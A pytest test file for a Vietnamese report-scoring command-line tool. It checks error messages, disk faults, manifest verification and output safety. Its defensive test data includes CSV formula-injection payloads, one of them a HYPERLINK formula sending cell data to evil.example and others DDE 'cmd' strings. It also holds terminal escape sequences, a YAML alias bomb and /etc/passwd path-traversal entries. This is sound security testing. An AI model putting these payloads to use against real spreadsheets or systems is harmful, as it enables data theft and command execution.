"""One error boundary, output safety and a verify that checks everything (issue 11, items 2, 4, 5).

Every case goes through ``chiso766.cli.main`` (a few through a real subprocess, to prove that no
traceback text reaches the terminal). A named error is exit 2 and one line ``Lỗi: …`` naming the
file (row, column or key); an unanticipated failure is exit 3, one line and the log file holding the
traceback; ``--debug`` shows the traceback. Faults of the disk use small tmpfs mounts (CI runs as
root); they are skipped only where mounting is not permitted.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from chiso766 import cli
from chiso766.compute import pipeline
from chiso766.core import params as params_module
from chiso766.cli import main
from chiso766.core.errors import clean
from chiso766.publish import audit
from chiso766.publish.runner import run
from chiso766.render import charts
from chiso766.render.tables import csv_safe, to_csv_text

ROOT = Path(__file__).resolve().parents[1]
HP = ROOT / "params" / "bulletin_766" / "2025.yaml"
PYTHON = sys.executable


# helpers ------------------------------------------------------------------------------------------


def cli_run(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def assert_named(code: int, err: str, *words: str) -> str:
    """Exit 2, exactly one line ``Lỗi: …`` holding ``words``, no traceback, no control character."""
    lines = [line for line in err.splitlines() if line.startswith("Lỗi")]
    assert code == 2, err
    assert len(lines) == 1 and lines[0].startswith("Lỗi: "), err
    assert "Traceback" not in err and "\x1b" not in err, err
    for word in words:
        assert word in lines[0], (word, lines[0])
    return lines[0]


def write_params(folder: Path, scores: str, **extra: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "scores.csv").write_text(scores, encoding="utf-8")
    body = (
        'report: bulletin_766\nperiod: "2025"\nas_of: 2025-10-07\nprovince: Tỉnh Mẫu\ninputs:\n  scores: scores.csv\n'
    )
    body += "".join(f"{key}: {value}\n" for key, value in extra.items())
    path = folder / "params.yaml"
    path.write_text(body, encoding="utf-8")
    return path


GOOD_SCORES = "unit_name,tier,total\nSở A,so,80.5\nSở B,so,70\nXã C,xa,60\n"


@contextmanager
def tmpfs(where: Path, size: str) -> Iterator[Path]:
    """A small tmpfs at ``where`` (root only); the test is skipped where mounting is not permitted."""
    where.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def fill(folder: Path) -> None:
    """Fill the file system of ``folder`` to the last byte."""
    for name, block in (("filler", 4096), ("filler2", 1)):  # then the last partial block
        with open(folder / name, "wb", buffering=0) as handle:
            try:
                while True:
                    handle.write(b"\0" * block)
            except OSError:
                pass


def read_only(folder: Path) -> None:
    done = subprocess.run(["mount", "-o", "remount,ro", str(folder)], capture_output=True)
    if done.returncode != 0:
        pytest.skip("cannot remount read-only here")


# params and the command line ----------------------------------------------------------------------

BOMB = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n"
    for i in range(8)
)


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        pytest.param(["-p", "as_of=2025-02-30"], ["as_of", "2025-02-30", "không có trên lịch"], id="as_of-feb-30"),
        pytest.param(["-p", "as_of=2025-13-01"], ["as_of", "không có trên lịch"], id="as_of-month-13"),
        pytest.param(["-p", "as_of=\udcff\udcfe"], ["UTF-8", "byte 0xff", "-p"], id="p-invalid-utf8"),
        pytest.param(["-p", "province=Tỉnh \udce9"], ["UTF-8", "byte 0xe9"], id="p-invalid-utf8-latin1"),
        pytest.param(["-p", "as_of"], ["-p", "key=value"], id="p-without-equals"),
        pytest.param(["-p", "report=bao_cao_la"], ["report"], id="unknown-report"),
        pytest.param(
            ["-p", "inputs.scores=/khong/co/tep.csv"], ["inputs.scores", "/khong/co/tep.csv"], id="input-missing"
        ),
        pytest.param(["--bogus"], ["--bogus"], id="unknown-option"),
    ],
)
def test_bad_command_lines_are_named(tmp_path, capsys, argv, words):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out", *argv)
    assert_named(code, err, *words)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("body", "words"),
    [
        pytest.param("as_of: 2025-02-30", ["as_of", "2025-02-30"], id="file-as_of-feb-30"),
        pytest.param(BOMB, ["bí danh"], id="yaml-alias-bomb"),
        pytest.param("loop: &l [*l]", ["loop"], id="yaml-self-alias"),
        pytest.param("issuer: [\n", ["YAML"], id="yaml-syntax"),
    ],
)
def test_bad_params_files_are_named(tmp_path, capsys, body, words):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    text = params.read_text(encoding="utf-8").replace("as_of: 2025-10-07\n", "")
    params.write_text(text + body + "\n", encoding="utf-8")
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out")
    assert_named(code, err, str(params), *words)


def test_params_file_not_utf8_and_missing(tmp_path, capsys):
    params = tmp_path / "p.yaml"
    params.write_bytes(b"report: bulletin_766\nprovince: T\xe9\n")
    assert_named(*cli_run(capsys, "score", params)[::2], "UTF-8", "dòng 2")
    assert_named(*cli_run(capsys, "score", tmp_path / "none.yaml")[::2], "none.yaml", "không tìm thấy")
    assert_named(*cli_run(capsys, "score", tmp_path / "\udcffx.yaml")[::2], "UTF-8")


# synth ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        pytest.param(["province", "--rows", "-5"], ["--rows", "-5"], id="rows-negative"),
        pytest.param(["province", "--rows", "0"], ["--rows"], id="rows-zero"),
        pytest.param(["province", "--rows", "abc"], ["--rows", "abc"], id="rows-not-a-number"),
        pytest.param(["national", "--rows", "10", "--provinces", "-1"], ["--provinces"], id="provinces-negative"),
        pytest.param(["portal-match"], ["--params"], id="portal-match-without-params"),
        pytest.param(["galaxy"], ["galaxy"], id="unknown-kind"),
    ],
)
def test_synth_bad_arguments(tmp_path, capsys, argv, words):
    code, _, err = cli_run(capsys, "synth", *argv, "--out", tmp_path / "s")
    assert_named(code, err, *words)
    assert not (tmp_path / "s").exists()


# score tables: hostile cells -------------------------------------------------------------------------


def test_a_one_megabyte_cell_is_named(tmp_path, capsys):
    params = write_params(tmp_path / "p", "unit_name,tier,total\n" + "A" * 1_100_000 + ",so,50\n")
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out")
    assert_named(code, err, "scores.csv", "dòng 2")


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param("\x1b[31m12abc\x1b[0m", id="ansi-colour"),
        pytest.param("\x1b]0;pwned\x0712x", id="osc-title"),
        pytest.param("\x1b[2J\x1b[H9z", id="clear-screen"),
        pytest.param("\x9b31m7q\x85", id="c1-csi"),
        pytest.param("1\u202e2x", id="bidi-override"),
        pytest.param("5\x08\x08\x08ok", id="backspaces"),
    ],
)
def test_control_characters_in_a_cell_are_not_echoed(tmp_path, capsys, cell):
    params = write_params(tmp_path / "p", f'unit_name,tier,total\nXã A,so,"{cell}"\n')
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out")
    line = assert_named(code, err, "scores.csv", "dòng 2", 'cột "total"')
    assert line == clean(line)
    assert not any(ch in line for ch in "\x1b\x07\x08\x85\x9b\u202e")


def test_an_input_deleted_mid_run_is_named(tmp_path, capsys, monkeypatch):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    real = params_module.load_params

    def load_then_delete(*args, **kwargs):
        loaded = real(*args, **kwargs)
        (tmp_path / "p" / "scores.csv").unlink()  # after the params were checked, before it is read
        return loaded

    monkeypatch.setattr(params_module, "load_params", load_then_delete)
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out")
    assert_named(code, err, "scores.csv")


# output safety: CSV formula injection, charts -------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+Sở Kế hoạch",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=100",  # a constant: harmless, kept as the CONTRACT machine format
]


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory) -> dict[str, list[str]]:
    folder = tmp_path_factory.mktemp("hostile")
    scores = "unit_name,tier,total\n" + "".join(
        f'"{name.replace(chr(34), chr(34) * 2)}",so,{50 + i}\n' for i, name in enumerate(HOSTILE)
    )
    params = write_params(folder / "p", scores)
    assert main(["score", str(params), "--out", str(folder / "out")]) == 0
    rows = list(csv.DictReader((folder / "out" / "tables" / "units.csv").open(encoding="utf-8-sig")))
    return {row["unit_name"]: [row["total"], row["rank"]] for row in rows}


@pytest.mark.parametrize("name", HOSTILE[:4], ids=["hyperlink", "plus", "minus-dde", "at-sum"])
def test_formula_names_are_neutralised_in_csv(hostile_tables, name):
    assert "'" + name in hostile_tables and name not in hostile_tables
    total, rank = hostile_tables["'" + name]
    assert Decimal(total) >= 50 and rank.isdigit()  # numbers stay numbers


def test_constant_text_and_numbers_keep_the_machine_format(hostile_tables):
    assert "=100" in hostile_tables
    import pandas as pd

    frame = pd.DataFrame(
        {"a": [Decimal("-0.5"), -3, -0.25, "-0.01", "−1", "\tx", "\rx"], "b": ["x", "y", "z", "w", "v", "u", "t"]}
    )
    lines = to_csv_text(frame).removeprefix("\ufeff").split("\n")
    assert lines[1:6] == ["-0.5,x", "-3,y", "-0.25,z", "-0.01,w", "−1,v"]
    assert lines[6] == "'\tx,u" and lines[7] == '"\'\rx","t"'  # a lone CR: the row is quoted
    assert list(csv.reader(io.StringIO(to_csv_text(frame))))[7] == ["'\rx", "t"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1 (84) 912", "'+1 (84) 912"),
        ("-A1", "'-A1"),
        ("@x", "'@x"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        (">=60", ">=60"),
        ("-1.5", "-1.5"),
        ("Xã = Phường", "Xã = Phường"),
    ],
)
def test_csv_safe(text, safe):
    assert csv_safe(text) == safe


DOLLAR = "Xã $x^2$"


@pytest.mark.parametrize(
    ("draw", "args"),
    [
        (
            "ranking_chart",
            {"labels": [DOLLAR, "Phường $\\frac{a$"], "values": [50, 60], "highlight": 1, "title": "$ $"},
        ),
        (
            "group_points_chart",
            {"labels": [DOLLAR, "b"], "points": [1, 2], "maxima": [5, 5], "title": "Điểm $\\alpha$"},
        ),
        ("indicator_chart", {"labels": [DOLLAR], "rates": [50], "targets": [60], "title": "$"}),
        ("share_chart", {"labels": [DOLLAR], "on_time": [80], "late": [20], "title": "^_^ $_$"}),
        ("trend_chart", {"dates": ["01/10", "08/10"], "series": {DOLLAR: [1, 2]}, "title": "t", "ylabel": "$y$"}),
        ("distribution_chart", {"values": [55, 70], "bands": [(60.0, "Tốt $")], "title": DOLLAR}),
    ],
)
def test_dollar_in_chart_labels_is_text_not_math(draw, args):
    figure = getattr(charts, draw)(**args)
    svg, png = io.BytesIO(), io.BytesIO()
    figure.savefig(svg, format="svg")
    figure.savefig(png, format="png")
    charts.plt.close(figure)
    assert png.getvalue().startswith(b"\x89PNG")
    text = svg.getvalue().decode("utf-8")
    assert "$" in text and ("x^2" in text or "$ $" in text or "^_^" in text or "Tốt $" in text)


# disk faults: read-only, full -------------------------------------------------------------------------


def earlier_score(out: Path) -> None:
    """``out`` as an earlier ``score`` left it: ``tables/units.csv`` ("earlier"), which a score may replace."""
    (out / "tables").mkdir(parents=True)
    (out / "tables" / "units.csv").write_text("earlier\n", encoding="utf-8")
    ledger = {"report": "bulletin_766", "period": "2025", "outputs": [
        {"path": "tables/units.csv", "sha256": hashlib.sha256(b"earlier\n").hexdigest()}]}
    (out / ".chiso766-score.json").write_text(json.dumps(ledger), encoding="utf-8")


def test_read_only_output_disk_is_named_and_keeps_what_was_there(tmp_path, capsys):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    with tmpfs(tmp_path / "ro", "1m") as mount:
        earlier_score(mount / "out")
        read_only(mount)
        code, _, err = cli_run(capsys, "score", params, "--out", mount / "out")
        assert_named(code, err, str(mount / "out"), "chỉ cho đọc", "EROFS")
        code, _, err = cli_run(capsys, "synth", "province", "--rows", "10", "--out", mount / "synth")
        assert_named(code, err, str(mount / "synth"), "EROFS")
        code, _, err = cli_run(capsys, "run", params, "--out", mount / "run")
        assert_named(code, err, str(mount / "run"))
        assert (mount / "out" / "tables" / "units.csv").read_text(encoding="utf-8") == "earlier\n"


def test_full_disk_is_named(tmp_path, capsys):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    with tmpfs(tmp_path / "full", "200k") as mount:
        earlier_score(mount / "out")
        fill(mount)
        code, _, err = cli_run(capsys, "score", params, "--out", mount / "out")
        assert_named(code, err, str(mount / "out"), "hết chỗ trống", "ENOSPC")
        code, _, err = cli_run(capsys, "synth", "province", "--rows", "50000", "--out", mount / "synth")
        assert_named(code, err, str(mount / "synth"), "ENOSPC")
        assert (mount / "out" / "tables" / "units.csv").read_text(encoding="utf-8") == "earlier\n"
        # all tables or none: no new table beside the earlier one, no temporary file left
        assert sorted(p.name for p in (mount / "out" / "tables").iterdir()) == ["units.csv"]


def test_a_score_whose_record_cannot_be_written_leaves_its_tables_as_they_were(tmp_path, capsys, monkeypatch):
    """The tables and .chiso766-score.json land together: the disk filling up at the record once left
    new tables that the record did not list, and every later score and run refused them as edited."""
    import errno
    import tempfile

    from chiso766.core import files

    params = write_params(tmp_path / "p", GOOD_SCORES)
    out = tmp_path / "out"
    assert cli_run(capsys, "score", params, "--out", out)[0] == 0
    before = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    write_params(tmp_path / "p", GOOD_SCORES.replace("80.5", "81.5"))
    real = tempfile.mkstemp

    def full_at_the_record(*args: Any, **kwargs: Any) -> tuple[int, str]:
        if str(kwargs.get("prefix", "")).startswith("..chiso766-score.json"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(*args, **kwargs)

    monkeypatch.setattr(files.tempfile, "mkstemp", full_at_the_record)
    code, _, err = cli_run(capsys, "score", params, "--out", out)
    assert_named(code, err, "ENOSPC")
    assert {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    monkeypatch.setattr(files.tempfile, "mkstemp", real)
    assert cli_run(capsys, "score", params, "--out", out)[0] == 0
    assert b"81.5" in (out / "tables" / "units.csv").read_bytes()
    assert cli_run(capsys, "run", params, "--out", out)[0] == 0


@pytest.mark.slow
def test_full_disk_during_run_is_named_and_leaves_nothing(tmp_path, capsys):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    with tmpfs(tmp_path / "full", "200k") as mount:
        fill(mount)
        code, _, err = cli_run(capsys, "run", params, "--out", mount / "run")
        assert_named(code, err, str(mount), "ENOSPC")
        assert sorted(p.name for p in mount.iterdir()) == ["filler", "filler2"]


@pytest.mark.slow
def test_input_deleted_before_the_notebook_reads_it(tmp_path, capsys, monkeypatch):
    import chiso766.publish.runner as runner

    params = write_params(tmp_path / "p", GOOD_SCORES)
    real = runner.load_params

    def load_then_delete(*args, **kwargs):
        loaded = real(*args, **kwargs)
        (tmp_path / "p" / "scores.csv").unlink(missing_ok=True)
        return loaded

    monkeypatch.setattr(runner, "load_params", load_then_delete)
    code, _, err = cli_run(capsys, "run", params, "--out", tmp_path / "out")
    assert_named(code, err, "scores.csv")
    assert not (tmp_path / "out").exists()


# verify ---------------------------------------------------------------------------------------------

BASE_MANIFEST = {"report": "bulletin_766", "params": {}, "input_paths": {}, "inputs": [], "outputs": []}
SHA = "0" * 64


def _manifest_with(**changes: object) -> bytes:
    manifest = {**BASE_MANIFEST, **changes}
    for key, value in list(manifest.items()):
        if value is None:
            del manifest[key]
    return json.dumps(manifest).encode("utf-8")


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(b"{", ["không phải JSON", "dòng 1"], id="not-json"),
        pytest.param(b"", ["không phải JSON"], id="empty"),
        pytest.param(b"[]", ["bảng khóa"], id="json-array"),
        pytest.param(b"\xff\xfe{}", ["UTF-8"], id="not-utf8"),
        pytest.param(b"[" * 200_000, ["manifest.json"], id="deep-nesting"),
        pytest.param(_manifest_with(outputs=None), ["outputs"], id="missing-outputs"),
        pytest.param(_manifest_with(params=None), ["params"], id="missing-params"),
        pytest.param(_manifest_with(inputs="abc"), ["inputs"], id="inputs-not-a-list"),
        pytest.param(_manifest_with(inputs=[5]), ["inputs[0]"], id="input-entry-not-object"),
        pytest.param(_manifest_with(outputs=[{"path": "a", "sha256": "zz"}]), ["outputs[0].sha256"], id="bad-sha"),
        pytest.param(
            _manifest_with(outputs=[{"path": "../../etc/passwd", "sha256": SHA}]), ["ngoài"], id="output-escapes"
        ),
        pytest.param(_manifest_with(outputs=[{"path": "/etc/passwd", "sha256": SHA}]), ["ngoài"], id="output-absolute"),
        pytest.param(_manifest_with(input_paths={"scores": 5}), ["input_paths.scores"], id="input-path-not-text"),
        pytest.param(_manifest_with(overrides="a=b"), ["overrides"], id="overrides-not-a-list"),
    ],
)
def test_verify_on_a_damaged_manifest_is_named(tmp_path, capsys, content, words):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "manifest.json").write_bytes(content)
    code, _, err = cli_run(capsys, "verify", folder)
    assert_named(code, err, "manifest.json", *words)
    code, _, err = cli_run(capsys, "explain", "Sở A", folder)
    assert_named(code, err, "manifest.json")


def test_verify_a_folder_that_is_not_an_output(tmp_path, capsys):
    assert_named(*cli_run(capsys, "verify", tmp_path / "none")[::2], "không tìm thấy")
    assert_named(*cli_run(capsys, "verify", tmp_path)[::2], "không có manifest.json")


@pytest.fixture(scope="module")
def hp_output(tmp_path_factory) -> Path:
    return run(HP, out=tmp_path_factory.mktemp("verify") / "2025")


@pytest.fixture
def pristine_rerun(hp_output, monkeypatch, tmp_path):
    """``verify``'s re-run replaced by a copy of the untouched output: these cases test the hashes of
    the output files; the real re-run is tested below and in test_audit_site."""

    def copy(_params, _overrides, out):
        shutil.copytree(hp_output, out)
        return Path(out)

    monkeypatch.setattr(audit, "run", copy)


def _tamper_html(folder: Path) -> None:
    with (folder / "bulletin.html").open("a", encoding="utf-8") as handle:
        handle.write("<p>Sở Y tế: 99 điểm</p>")


def _replace_xlsx(folder: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["unit_name", "total"])
    book.save(folder / "tables.xlsx")


def _link_png(folder: Path) -> None:
    png = next((folder / "figures").glob("*.png"))
    shutil.move(png, folder / "moved.bin")
    png.symlink_to(folder / "moved.bin")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("tamper", "words"),
    [
        pytest.param(_tamper_html, ["tệp bulletin.html: KHÁC"], id="bulletin-html-edited"),
        pytest.param(lambda f: (f / "bulletin.pdf").unlink(), ["tệp bulletin.pdf: KHÔNG CÒN"], id="pdf-deleted"),
        pytest.param(_replace_xlsx, ["tệp tables.xlsx: KHÁC"], id="xlsx-replaced"),
        pytest.param(lambda f: (f / "notebook.ipynb").write_text("{}"), ["notebook.ipynb: KHÁC"], id="notebook"),
        pytest.param(lambda f: (f / "evil.js").write_text("alert(1)"), ["tệp evil.js: MỚI"], id="file-added"),
        pytest.param(_link_png, ["KHÁC", "moved.bin: MỚI"], id="figure-made-a-link"),
    ],
)
def test_verify_checks_every_output_file(hp_output, pristine_rerun, tmp_path, capsys, tamper, words):
    copy = tmp_path / "2025"
    shutil.copytree(hp_output, copy)
    tamper(copy)
    code, out, err = cli_run(capsys, "verify", copy)
    assert code == 1 and "Traceback" not in err, err
    for word in words:
        assert word in out, out
    # the tables made again are the same: none is named
    assert "tables/units.csv" not in out and out.rstrip().endswith("KẾT LUẬN: KHÔNG tái lập được")


@pytest.mark.slow
def test_verify_after_the_folder_is_moved(hp_output, tmp_path, capsys):
    moved = tmp_path / "elsewhere" / "bulletin-2025"
    shutil.copytree(hp_output, moved.parent / "x")
    (moved.parent / "x").rename(moved)
    code, out, err = cli_run(capsys, "verify", moved)
    assert code == 0, out + err
    assert "tái lập đúng" in out and re.search(r"chạy lại: (\d+)/\1 tệp giống hệt từng byte", out), out


def _project_with(project: Path, output: Path) -> tuple[Path, dict[str, Any]]:
    """A project folder holding the Hải Phòng sample's inputs and ``output`` as its 2025 bulletin; the
    bulletin's folder and its manifest."""
    (project / "params").mkdir(parents=True)
    shutil.copytree(ROOT / "data" / "samples" / "hai-phong", project / "data" / "samples" / "hai-phong")
    out = project / "outputs" / "bulletin_766" / "2025"
    shutil.copytree(output, out)
    return out, json.loads((out / "manifest.json").read_text(encoding="utf-8"))


@pytest.mark.slow
def test_verify_after_the_whole_project_is_moved(hp_output, tmp_path, capsys):
    """Recorded absolute input paths that no longer exist are found under the output's project folder."""
    project = tmp_path / "moved-project"
    out, manifest = _project_with(project, hp_output)
    old = str(ROOT)
    text = json.dumps(manifest, ensure_ascii=False).replace(json.dumps(old)[1:-1], "/nowhere/old-project")
    (out / "manifest.json").write_text(text, encoding="utf-8")
    code, out_text, err = cli_run(capsys, "verify", out)
    assert code == 0, out_text + err
    assert "tái lập đúng" in out_text


@pytest.mark.slow
def test_verify_of_a_copied_project_checks_the_copy_s_own_inputs(hp_output, tmp_path, capsys):
    """The project the manifest records still exists: a copy of it, with an input changed, is verified
    against its own inputs, and says the input changed."""
    project = tmp_path / "copy"
    out, manifest = _project_with(project, hp_output)
    assert manifest["project_root"] == str(ROOT) and not Path(manifest["input_paths"]["scores"]).is_absolute()
    scores = project / manifest["input_paths"]["scores"]
    scores.write_bytes(scores.read_bytes() + b"\n")  # a blank line at its end: another file, the same figures
    code, out_text, err = cli_run(capsys, "verify", out)
    assert code == 1 and "Traceback" not in err
    assert f"dữ liệu vào {manifest['input_paths']['scores']}: ĐÃ THAY ĐỔI" in out_text, out_text


def test_verify_with_an_input_gone_everywhere(tmp_path, capsys):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "a.txt").write_text("a", encoding="utf-8")
    import hashlib

    sha = hashlib.sha256(b"a").hexdigest()
    (folder / "manifest.json").write_bytes(
        _manifest_with(
            input_paths={"scores": "/nowhere/scores.csv"},
            inputs=[{"kind": "scores", "path": "/nowhere/scores.csv", "sha256": SHA}],
            outputs=[{"path": "a.txt", "sha256": sha}],
        )
    )
    code, out, err = cli_run(capsys, "verify", folder)
    assert code == 1 and "Traceback" not in err
    assert "dữ liệu vào /nowhere/scores.csv: KHÔNG CÒN" in out and "tệp kết quả: 1/1" in out


# explain ---------------------------------------------------------------------------------------------


def _weekly(folder: Path) -> None:
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["report"] = "weekly_tthc"
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (folder / "tables" / "units.csv").unlink()


def _drop_total(folder: Path) -> None:
    units = folder / "tables" / "units.csv"
    units.write_text(units.read_text(encoding="utf-8").replace("total", "tong"), encoding="utf-8")


def _garbage_total(folder: Path) -> None:
    units = folder / "tables" / "units.csv"
    units.write_text(units.read_text(encoding="utf-8").replace("63.74", "abc"), encoding="utf-8")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("damage", "unit", "words"),
    [
        pytest.param(_weekly, "Sở Y tế", ["lệnh explain", "bulletin_766", "weekly_tthc"], id="weekly-output"),
        pytest.param(lambda f: None, "Sở Không Có", ["không có đơn vị", "Sở Không Có"], id="unknown-unit"),
        pytest.param(lambda f: None, "Sở \x1b[31mĐỏ", ["không có đơn vị", "Sở Đỏ"], id="unit-with-escapes"),
        pytest.param(_drop_total, "Sở Y tế", ["units.csv", 'cột "total"'], id="column-missing"),
        pytest.param(_garbage_total, "Sở Y tế", ["tables", "verify"], id="value-garbage"),
        pytest.param(lambda f: (f / "tables" / "groups.csv").unlink(), "Sở Y tế", ["groups.csv"], id="groups-gone"),
    ],
)
def test_explain_on_a_folder_it_cannot_explain(hp_output, tmp_path, capsys, damage, unit, words):
    copy = tmp_path / "out"
    shutil.copytree(hp_output, copy)
    damage(copy)
    code, _, err = cli_run(capsys, "explain", unit, copy)
    assert_named(code, err, *words)


# the boundary itself ------------------------------------------------------------------------------------


def _boom(*_args, **_kwargs):
    raise ZeroDivisionError("secret://user:hunter2@host")


def test_an_unanticipated_failure_is_one_line_and_a_log(tmp_path, capsys, monkeypatch):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    monkeypatch.setattr(pipeline, "build_scorecard", _boom)
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "out")
    lines = err.strip().splitlines()
    assert code == 3 and len(lines) == 1 and "Traceback" not in err
    assert "ZeroDivisionError" in lines[0] and "--debug" in lines[0] and "hunter2" not in err
    log = Path(lines[0].split("chi tiết đã ghi vào ")[1].split(";")[0])
    assert log.parent == Path(os.environ.get("TMPDIR", "/tmp")).resolve() or log.is_file()
    details = log.read_text(encoding="utf-8")
    assert "Traceback" in details and "_boom" in details and "hunter2" not in details
    assert oct(log.stat().st_mode & 0o777) == oct(0o600)
    log.unlink()


def test_debug_shows_the_traceback(tmp_path, capsys, monkeypatch):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    monkeypatch.setattr(pipeline, "build_scorecard", _boom)
    code, _, err = cli_run(capsys, "--debug", "score", params)
    assert code == 3 and "Traceback (most recent call last)" in err and "_boom" in err
    code, _, err = cli_run(capsys, "score", params, "--debug", "-p", "as_of=2025-02-30")
    assert (
        code == 2
        and "Traceback (most recent call last)" in err
        and err.strip().endswith("(giá trị từ -p as_of=2025-02-30)")
    )


def test_ctrl_c_is_one_line(tmp_path, capsys, monkeypatch):
    params = write_params(tmp_path / "p", GOOD_SCORES)

    def interrupted(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "build_scorecard", interrupted)
    code, _, err = cli_run(capsys, "score", params)
    assert code == 130 and err.strip() == "Lỗi: đã dừng theo yêu cầu (Ctrl+C)"


def test_a_network_oserror_is_not_mistaken_for_a_file_error(tmp_path, capsys, monkeypatch):
    params = write_params(tmp_path / "p", GOOD_SCORES)

    def reset(*_args, **_kwargs):
        raise ConnectionResetError(104, "Connection reset by peer")

    monkeypatch.setattr(pipeline, "build_scorecard", reset)
    code, _, err = cli_run(capsys, "score", params)
    assert code == 3 and "ConnectionResetError" in err and len(err.strip().splitlines()) == 1
    Path(err.split("chi tiết đã ghi vào ")[1].split(";")[0]).unlink()


def test_an_output_path_that_is_a_file(tmp_path, capsys):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    (tmp_path / "file").write_text("x", encoding="utf-8")
    code, _, err = cli_run(capsys, "score", params, "--out", tmp_path / "file")
    assert_named(code, err, str(tmp_path / "file"))


# the same through a real process: nothing but the one line reaches the terminal -------------------------


def _process(*argv: bytes | str, timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "lib")}
    return subprocess.run([PYTHON, "-m", "chiso766", *argv], capture_output=True, timeout=timeout, env=env, cwd=ROOT)


def _one_line(done: subprocess.CompletedProcess[bytes], code: int) -> str:
    err = done.stderr.decode("utf-8")
    assert done.returncode == code, err
    assert "Traceback" not in err and "\x1b" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    return lines[0]


def test_process_invalid_utf8_argument(tmp_path):
    params = write_params(tmp_path / "p", GOOD_SCORES)
    done = _process(b"score", str(params).encode(), b"-p", b"as_of=\xff\xfe", b"--out", str(tmp_path / "o").encode())
    assert "byte 0xff" in _one_line(done, 2)


def test_process_damaged_manifest(tmp_path):
    (tmp_path / "manifest.json").write_bytes(b'{"report": "bulletin_766", "params": {}')
    assert "manifest.json" in _one_line(_process("verify", str(tmp_path)), 2)


def test_process_unanticipated_failure(tmp_path):
    code = (
        "import sys, chiso766.cli as c, chiso766.compute.pipeline as p\n"
        "def boom(*a, **k): raise RuntimeError('x')\n"
        "p.build_scorecard = boom\n"
        f"sys.exit(c.main(['score', {str(write_params(tmp_path / 'p', GOOD_SCORES))!r}]))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT / "lib")}
    done = subprocess.run([PYTHON, "-c", code], capture_output=True, timeout=120, env=env)
    line = _one_line(done, 3)
    assert "RuntimeError" in line
    Path(line.split("chi tiết đã ghi vào ")[1].split(";")[0]).unlink()


def test_process_ctrl_c(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT / "lib")}
    process = subprocess.Popen(
        [PYTHON, "-m", "chiso766", "synth", "province", "--rows", "3000000", "--out", str(tmp_path / "s")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    deadline = time.monotonic() + 60
    while not (tmp_path / "s").exists() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.1)  # the command has started (imports done) once it made its folder
    time.sleep(0.5)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    if process.returncode == 0:
        pytest.skip("synth finished before the interrupt")
    assert process.returncode == 130, err
    assert err.decode("utf-8").strip() == "Lỗi: đã dừng theo yêu cầu (Ctrl+C)"


@pytest.mark.parametrize(
    ("name", "status", "said"),
    [("SIGTERM", 143, "đã dừng theo tín hiệu dừng (SIGTERM)"), ("SIGINT", 130, "đã dừng theo yêu cầu (Ctrl+C)")],
    ids=["SIGTERM", "SIGINT"],
)
def test_a_stop_met_in_a_finalizer_still_stops_the_command(name, status, said):
    """A SIGTERM that came while Python ran a finalizer (an object of the notebook client freed mid-run)
